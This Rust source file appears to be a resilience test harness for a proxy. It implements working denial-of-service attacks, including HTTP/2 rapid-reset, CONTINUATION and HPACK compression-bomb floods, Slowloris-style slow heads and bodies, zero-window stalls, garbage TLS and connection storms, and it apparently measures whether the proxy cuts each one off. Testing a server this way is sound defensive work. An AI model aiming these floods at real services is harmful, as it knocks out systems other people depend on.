//! The attacks. Each runs on connections of its own until it is cut off, and then begins anew.

use std::future::Future;
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedWriteHalf;
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::timeout;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    begin, block, frame, kept,
};
use super::world::{HTTP, TLS};

/// One attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Attackers at once.
    pub(super) connections: usize,
    /// One connection of an attacker: when it was cut off, or `None`.
    pub(super) run: fn(Instant) -> Running,
    /// Whether it must be cut off, rather than only be harmless.
    pub(super) must_be_cut: bool,
    /// The descriptors that the proxy may have.
    pub(super) limit: Option<u64>,
    /// The good client may have to try again.
    pub(super) patient: bool,
    /// Heads that become more than they were on the wire: memory is held against what was sent.
    pub(super) bomb: bool,
}

/// What an attacker's system keeps of what it sends, bytes.
const SEND_BUFFER: u32 = 64 << 10;

/// What all attackers have sent so far, bytes.
pub(super) static SENT: AtomicU64 = AtomicU64::new(0);

type Running = Pin<Box<dyn Future<Output = Option<Duration>> + Send>>;

const fn attack(name: &'static str, connections: usize, run: fn(Instant) -> Running) -> Attack {
    Attack { name, connections, run, must_be_cut: true, limit: None, patient: false, bomb: false }
}

const fn bomb(name: &'static str, connections: usize, run: fn(Instant) -> Running) -> Attack {
    Attack { bomb: true, ..attack(name, connections, run) }
}

/// All of them.
pub(super) const ATTACKS: &[Attack] = &[
    attack("rapid-reset", 4, |end| {
        let pair = |n: u32| [frame(HEADERS, END_STREAM | END_HEADERS, n, &block(false, "/")), reset(n)].concat();
        Box::pin(flood(end, begin(&[]), move |n| pair(2 * n + 1)))
    }),
    attack("slow-reset", 4, |end| Box::pin(reset_after_service(end))),
    attack("made-you-reset", 4, |end| {
        // A window that grows by nothing is an error of the stream: the server resets what it works on.
        let pair = |n: u32| {
            let head = frame(HEADERS, END_HEADERS, n, &block(true, "/"));
            [head, frame(WINDOW_UPDATE, 0, n, &[0; 4])].concat()
        };
        Box::pin(flood(end, begin(&[]), move |n| pair(2 * n + 1)))
    }),
    bomb("continuation", 4, |end| {
        let first = [begin(&[]), frame(HEADERS, 0, 1, &block(false, "/"))].concat();
        Box::pin(flood(end, first, |_| frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'])))
    }),
    attack("empty-data", 4, |end| {
        let first = [begin(&[]), frame(HEADERS, END_HEADERS, 1, &block(true, "/"))].concat();
        Box::pin(flood(end, first, |_| frame(DATA, 0, 1, &[])))
    }),
    attack("settings", 4, |end| Box::pin(flood(end, begin(&[]), |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9])))),
    attack("ping", 4, |end| Box::pin(flood(end, begin(&[]), |_| frame(PING, 0, 0, b"12345678")))),
    attack("priority", 4, |end| {
        Box::pin(flood(end, begin(&[]), |n| frame(PRIORITY, 0, 2 * (n % 1000) + 3, &[0, 0, 0, 1, 9])))
    }),
    attack("window-update", 4, |end| Box::pin(flood(end, begin(&[]), |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])))),
    attack("zero-window", 2, |end| Box::pin(zero_window(end))),
    attack("never-reading", 20, |end| Box::pin(never_reading(end))),
    attack("slow-head", 50, |end| Box::pin(drip(end, HTTP, b"GET / HTTP/1.1\r\nx: "))),
    attack("slow-preface", 50, |end| Box::pin(drip(end, HTTP, b"PRI * HTT"))),
    attack("slow-body", 50, |end| {
        Box::pin(drip(end, HTTP, b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n"))
    }),
    attack("handshake-stall", 50, |end| Box::pin(drip(end, TLS, &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]))),
    attack("silence", 50, |end| Box::pin(silence(end))),
    attack("garbage", 8, |end| Box::pin(flood(end, vec![0xff; 9], |n| n.to_be_bytes().repeat(64)))),
    attack("garbage-tls", 8, |end| Box::pin(garbage_tls(end))),
    bomb("header-bomb", 4, |end| Box::pin(compression_bomb(end))),
    bomb("cookie-crumbs", 4, |end| Box::pin(crumbs(end))),
    bomb("long-head", 8, |end| Box::pin(flood(end, b"GET / HTTP/1.1\r\nhost: a\r\n".to_vec(), long_header))),
    Attack { must_be_cut: false, ..attack("storm", 8, |end| Box::pin(storm(end))) },
    Attack {
        must_be_cut: false,
        limit: Some(256),
        patient: true,
        ..attack("descriptors", 400, |end| Box::pin(silence(end)))
    },
];

/// Attacks again and again; how long each attacker stayed.
pub(super) async fn repeat(run: fn(Instant) -> Running, end: Instant) -> Vec<Duration> {
    let mut stays = Vec::new();
    while Instant::now() < end {
        match run(end).await {
            Some(stay) => stays.push(stay),
            None => tokio::time::sleep(Duration::from_millis(10)).await,
        }
    }
    stays
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

fn long_header(n: u32) -> Vec<u8> {
    format!("x-{n}: {}\r\n", "a".repeat(500)).into_bytes()
}

async fn connect(at: &str) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    // What an attacker's own system keeps for it is given up, where all share one, at the cost of the proxy's core.
    socket.set_send_buffer_size(SEND_BUFFER).ok()?;
    let stream = timeout(Duration::from_secs(1), socket.connect(at.parse().ok()?)).await.ok()?.ok()?;
    stream.set_nodelay(true).ok()?;
    Some(stream)
}

/// Writes without end, and reads what comes, until the connection is closed. An attacker that the end of the time
/// meets while it still writes has stayed for as long as it was there.
async fn flood(end: Instant, first: Vec<u8>, mut next: impl FnMut(u32) -> Vec<u8>) -> Option<Duration> {
    let stream = connect(HTTP).await?;
    let begun = Instant::now();
    let (mut reader, mut writer) = stream.into_split();
    let reading = async {
        let mut buffer = vec![0; 16 << 10];
        while let Ok(1..) = reader.read(&mut buffer).await {}
    };
    let writing = pour(&mut writer, &first, &mut next);
    tokio::select! {
        () = reading => {}
        _ = writing => {}
        () = tokio::time::sleep_until(end.into()) => {}
    }
    Some(begun.elapsed())
}

/// Writes until it cannot; why it cannot.
async fn pour(writer: &mut OwnedWriteHalf, first: &[u8], next: &mut impl FnMut(u32) -> Vec<u8>) -> std::io::Error {
    if let Err(error) = writer.write_all(first).await {
        return error;
    }
    let mut n = 0;
    loop {
        let bytes: Vec<u8> = (n..n + 50).flat_map(&mut *next).collect();
        n += 50;
        let mut left = bytes.as_slice();
        while !left.is_empty() {
            match writer.write_buf(&mut left).await {
                Ok(count) => SENT.fetch_add(count as u64, Ordering::Relaxed),
                Err(error) => return error,
            };
        }
        tokio::task::yield_now().await;
    }
}

/// Every request is taken back after it was accepted and passed on: resets that no queue limits.
async fn reset_after_service(end: Instant) -> Option<Duration> {
    let stream = connect(HTTP).await?;
    let begun = Instant::now();
    let (mut reader, mut writer) = stream.into_split();
    let reading = async {
        let mut buffer = vec![0; 16 << 10];
        while let Ok(1..) = reader.read(&mut buffer).await {}
    };
    let writing = ask_and_take_back(&mut writer);
    tokio::select! {
        () = reading => {}
        _ = writing => {}
        () = tokio::time::sleep_until(end.into()) => {}
    }
    Some(begun.elapsed())
}

async fn ask_and_take_back(writer: &mut OwnedWriteHalf) -> std::io::Result<()> {
    writer.write_all(&begin(&[])).await?;
    for n in (1_u32..).step_by(40) {
        let heads = (0..20).flat_map(|i| frame(HEADERS, END_STREAM | END_HEADERS, n + 2 * i, &block(false, "/")));
        writer.write_all(&heads.collect::<Vec<u8>>()).await?;
        tokio::time::sleep(Duration::from_millis(1)).await;
        writer.write_all(&(0..20).flat_map(|i| reset(n + 2 * i)).collect::<Vec<u8>>()).await?;
    }
    Ok(())
}

/// Asks for endless answers and opens no window; over when all streams were reset.
async fn zero_window(end: Instant) -> Option<Duration> {
    const STREAMS: u32 = 50;
    let mut stream = connect(HTTP).await?;
    let begun = Instant::now();
    let mut bytes = begin(&[0, 4, 0, 0, 0, 0]);
    for n in 0..STREAMS {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &block(false, "/endless")));
    }
    stream.write_all(&bytes).await.ok()?;
    let mut resets = 0;
    while Instant::now() < end && resets < STREAMS {
        let mut head = [0; 9];
        match timeout(Duration::from_millis(100), stream.read_exact(&mut head)).await {
            Err(_) => continue,
            Ok(Err(_)) => break,
            Ok(Ok(_)) => {}
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        stream.read_exact(&mut payload).await.ok()?;
        resets += u32::from(head[3] == RST_STREAM);
        if head[3] == GOAWAY {
            break;
        }
    }
    Some(begun.elapsed())
}

/// Asks for an endless answer and reads none of it.
async fn never_reading(end: Instant) -> Option<Duration> {
    let mut stream = connect(HTTP).await?;
    let begun = Instant::now();
    stream.write_all(b"GET /endless HTTP/1.1\r\nhost: a\r\n\r\n").await.ok()?;
    while Instant::now() < end {
        tokio::time::sleep(Duration::from_millis(50)).await;
        // A byte more is answered by a reset once the other side is gone.
        if stream.write_all(b"\r\n").await.is_err() {
            break;
        }
    }
    Some(begun.elapsed())
}

/// One byte now and then.
async fn drip(end: Instant, at: &str, first: &[u8]) -> Option<Duration> {
    let mut stream = connect(at).await?;
    let begun = Instant::now();
    stream.write_all(first).await.ok()?;
    let mut buffer = [0; 1024];
    while Instant::now() < end {
        match timeout(Duration::from_millis(100), stream.read(&mut buffer)).await {
            Ok(Ok(0) | Err(_)) => break,
            Ok(Ok(_)) => continue,
            Err(_) => {}
        }
        if stream.write_all(b"a").await.is_err() {
            break;
        }
    }
    Some(begun.elapsed())
}

/// Connects and says nothing.
async fn silence(end: Instant) -> Option<Duration> {
    let mut stream = connect(HTTP).await?;
    let begun = Instant::now();
    let left = end.saturating_duration_since(begun);
    let _ = timeout(left, stream.read(&mut [0; 64])).await;
    Some(begun.elapsed())
}

/// Records that are none, where a handshake is waited for.
async fn garbage_tls(end: Instant) -> Option<Duration> {
    let mut stream = connect(TLS).await?;
    let begun = Instant::now();
    stream.write_all(&[22, 3, 1, 0, 200]).await.ok()?;
    stream.write_all(&[0xa5; 4000]).await.ok()?;
    let left = end.saturating_duration_since(Instant::now());
    let mut buffer = [0; 1024];
    while let Ok(Ok(1..)) = timeout(left, stream.read(&mut buffer)).await {}
    Some(begun.elapsed())
}

/// A long header said once and pointed at thousands of times.
async fn compression_bomb(end: Instant) -> Option<Duration> {
    let mut bomb = block(false, "/");
    bomb.extend(kept("x", 3900));
    // Index 62: the newest entry of the table.
    bomb.extend(std::iter::repeat_n(0xbe, 8_000));
    let head = move |n: u32| frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &bomb);
    flood(end, begin(&[]), head).await
}

/// Cookies in thousands of pieces, which a server puts together.
async fn crumbs(end: Instant) -> Option<Duration> {
    let mut head = block(false, "/");
    for _ in 0..4_000 {
        // Index 32 of the static table: cookie.
        head.extend([0x0f, 0x11, 1, b'a']);
    }
    flood(end, begin(&[]), move |n| frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &head)).await
}

/// Connections that are closed as soon as they are there.
async fn storm(end: Instant) -> Option<Duration> {
    let begun = Instant::now();
    while Instant::now() < end {
        let mut open = Vec::new();
        for _ in 0..50 {
            open.extend(connect(HTTP).await);
        }
        drop(open);
    }
    Some(begun.elapsed())
}
